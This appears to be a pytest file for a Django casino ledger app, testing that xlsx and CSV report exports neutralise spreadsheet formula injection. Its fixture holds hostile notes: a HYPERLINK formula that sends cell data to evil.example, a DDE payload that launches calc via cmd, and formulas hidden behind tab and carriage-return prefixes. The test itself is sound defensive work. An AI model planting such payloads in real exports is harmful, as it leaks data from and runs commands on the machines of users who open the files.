"""Exports a spreadsheet cannot be made to run: text that looks like a formula stays text
(OWASP "CSV injection"), whoever wrote it; numbers, negative ones included, stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from pit.accounts.models import Role
from pit.accounts.services import device_create, user_create_with_role
from pit.core.gaming_day import gaming_day_for
from pit.ledger.models import Reconciliation
from pit.ledger.services import reconciliation_explain
from pit.reports.renderers import csv_safe_text
from pit.shoes.models import Shoe
from tests import factories

EXPORT = "/admin/pit/reports/export/"
BANKER_WINS = {"player": ["2H", "KD"], "banker": ["8C", "KS"]}  # Banker natural 8

# What a floor device or a person could type, one per seat (a seat's note rides on its collection).
HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    2: "+1+cmd|' /C calc'!A0",
    3: "-2+3",
    5: "@SUM(1,1)",
    6: "\t=1+1",
    7: "\r=1+1",
}
STORED = {note.strip() for note in HOSTILE.values()}  # the API trims what surrounds a note
EXPLANATION = "-5.00 short: =2+5"


@pytest.fixture
def hostile_shoe(db, django_capture_on_commit_callbacks):
    table = factories.table("BB1")
    device, key = device_create(table=table, name="shoe reader")
    floor = APIClient()
    floor.credentials(HTTP_AUTHORIZATION=f"Api-Key {key}")
    with django_capture_on_commit_callbacks(execute=True):
        shoe = floor.post("/api/v1/tables/BB1/shoes/", {"cut_card_position": 300}, format="json").json()
    wagers = [{"seat": seat, "bet": "banker", "amount": "100.00"} for seat in (*HOSTILE, 8)]
    with django_capture_on_commit_callbacks(execute=True):
        response = floor.post(
            f"/api/v1/shoes/{shoe['id']}/coups/", {"number": 1, **BANKER_WINS, "wagers": wagers}, format="json"
        )
    assert response.status_code == 201, response.content
    for seat, note in HOSTILE.items():
        with django_capture_on_commit_callbacks(execute=True):
            response = floor.post(f"/api/v1/shoes/{shoe['id']}/seats/{seat}/collect/", {"note": note}, format="json")
        assert response.status_code == 201, response.content
    # Each hostile seat paid its 5.00 at departure; seat 8's 5.00 is not in the box: a variance.
    with django_capture_on_commit_callbacks(execute=True):
        response = floor.post(
            f"/api/v1/shoes/{shoe['id']}/close/", {"commission_box": [{"seat": 8, "counted": "0.00"}]}, format="json"
        )
    assert response.status_code in (200, 201), response.content
    accountant = user_create_with_role(username="counter", password="pw-counter-123", role=Role.ACCOUNTANT)
    reconciliation = Reconciliation.objects.get(shoe_id=shoe["id"])
    reconciliation_explain(reconciliation=reconciliation, user=accountant, note=EXPLANATION)
    return Shoe.objects.get(pk=shoe["id"]), accountant


def _range():
    day = gaming_day_for(timezone.now()).isoformat()
    return {"from": day, "to": day}


def _xlsx(client, report):
    response = client.get(EXPORT, {"report": report, **_range(), "format": "xlsx"})
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]


def test_no_exported_xlsx_cell_is_a_formula_and_the_text_is_kept(client, hostile_shoe):
    _, accountant = hostile_shoe
    client.force_login(accountant)
    detail = _xlsx(client, "commission-detail")
    cells = [cell for row in detail.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in next(detail.iter_rows(max_row=1))]
    notes = {cell.value for cell in (row[header.index("Note")] for row in detail.iter_rows(min_row=2))} - {None}
    assert notes == STORED  # as written, typed strings
    note_cells = [row[header.index("Note")] for row in detail.iter_rows(min_row=2) if row[header.index("Note")].value]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in note_cells)
    # Collections are negative amounts: numbers still, not neutralised text.
    amounts = [row[header.index("Amount owed (+) / collected (-)")] for row in detail.iter_rows(min_row=2)]
    reasons = [row[header.index("Collection reason")].value for row in detail.iter_rows(min_row=2)]
    assert [cell.value for cell, reason in zip(amounts, reasons, strict=True) if reason == "player_left"] == [-5] * 6
    assert all(cell.data_type == "n" for cell in amounts if cell.value is not None)

    commission = _xlsx(client, "commission")
    header = [cell.value for cell in next(commission.iter_rows(max_row=1))]
    assert not [cell.coordinate for row in commission.iter_rows() for cell in row if cell.data_type == "f"]
    explanations = [row[header.index("Explanation")] for row in commission.iter_rows(min_row=2)]
    explained = [cell for cell in explanations if cell.value]
    assert explained and all(cell.value == EXPLANATION and cell.data_type == "s" for cell in explained)
    variance = [row[header.index("Variance (counted - expected)")] for row in commission.iter_rows(min_row=2)]
    assert {cell.value for cell in variance if cell.value} == {-5} and variance[0].data_type == "n"


def test_csv_text_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(client, hostile_shoe):
    _, accountant = hostile_shoe
    client.force_login(accountant)
    response = client.get(EXPORT, {"report": "commission-detail", **_range(), "format": "csv"})
    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    notes = [row["Note"] for row in rows if row["Note"]]
    assert sorted(notes) == sorted("'" + note.strip() for note in HOSTILE.values())
    collected = [row["Amount owed (+) / collected (-)"] for row in rows if row["Collection reason"] == "player_left"]
    assert collected == ["-5.00"] * 6  # a negative amount is a number, left as it is

    response = client.get(EXPORT, {"report": "commission", **_range(), "format": "csv"})
    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    seat_8 = next(row for row in rows if row["Seat"] == "8")
    assert (seat_8["Explanation"], seat_8["Variance (counted - expected)"]) == ("'" + EXPLANATION, "-5.00")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("player left", "player left"),
        ("", ""),
        ("a=1", "a=1"),
    ],
)
def test_csv_safe_text(text, written):
    assert csv_safe_text(text) == written
